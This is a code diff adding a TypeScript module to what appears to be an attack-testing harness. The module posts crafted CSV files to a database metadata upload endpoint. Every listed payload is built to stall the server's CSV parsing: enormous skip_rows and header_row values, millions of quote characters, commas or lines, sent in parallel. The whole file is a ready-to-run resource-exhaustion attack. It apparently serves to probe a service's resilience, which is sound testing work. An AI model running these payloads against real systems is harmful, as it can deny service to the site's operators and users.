@@ -1,0 +1,29 @@
+import type { Attack, AttackAnswer } from '../attack.ts';
+import type { Attacker } from '../attacker.ts';
+
+const path = '/api/v1/database/upload_metadata/';
+
+/** Files, and numbers of their form, that took the writer very long or for ever. */
+const files: readonly (readonly [content: string, fields: Readonly<Record<string, string>>])[] = [
+  ['a\n1\n', { skip_rows: '99999999999' }],
+  ['a\n1\n', { header_row: '1048576', skip_rows: '1048576' }],
+  [`x${'"'.repeat(3_000_000)}`, {}],
+  ['a,'.repeat(1_500_000), {}],
+  ['a\n'.repeat(2_000_000), { skip_rows: '1000000' }],
+];
+
+const look = (attacker: Attacker, content: string, fields: Readonly<Record<string, string>>): Promise<AttackAnswer> => {
+  const body = new FormData();
+  body.append('type', 'csv');
+  for (const [field, value] of Object.entries(fields)) body.append(field, value);
+  body.append('file', new File([content], 'file.csv'));
+  return attacker.send({ method: 'POST', path, body });
+};
+
+/** Looks into files that are made to be read slowly, four at a time: more of one user are refused. */
+export const uploadShapes: Attack = {
+  name: 'upload-shapes',
+  what: 'looks into files that are made to be read slowly',
+  prepare: ({ attacker }) =>
+    Promise.resolve(() => Promise.all(files.map(([content, fields]) => look(attacker, content, fields)))),
+};
